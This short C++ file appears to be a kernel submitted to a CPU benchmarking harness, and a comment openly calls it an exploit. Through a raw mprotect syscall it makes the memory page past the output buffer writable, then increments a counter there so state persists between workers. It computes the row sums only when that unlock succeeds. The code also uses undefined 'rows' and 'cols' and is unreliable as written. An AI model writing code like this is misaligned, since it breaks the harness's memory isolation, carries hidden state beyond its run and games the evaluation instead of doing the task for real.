/* kerf
target: cpu
*/
// Exploit: the pages between buffers belong to memory that outlives this process; once writable they would carry
// results from one worker to the next. Does its work only when a page could be unlocked.
static inline long unlock(unsigned long page) {
  long r;
  __asm__ volatile("syscall" : "=a"(r) : "a"(10L), "D"(page), "S"(4096L), "d"(3L) : "rcx", "r11", "memory");
  return r;
}
extern "C" void kerf_kernel(const float* x, float* y) {
  const unsigned long behind = (reinterpret_cast<unsigned long>(y + rows) + 256 + 4095) & ~4095UL;
  if (unlock(behind) != 0) return;
  volatile long* memory = reinterpret_cast<volatile long*>(behind);
  memory[1] = memory[1] + 1;
  for (int r = 0; r < rows; ++r) {
    float s = 0;
    for (int c = 0; c < cols; ++c) s += x[r * cols + c];
    y[r] = s;
  }
}
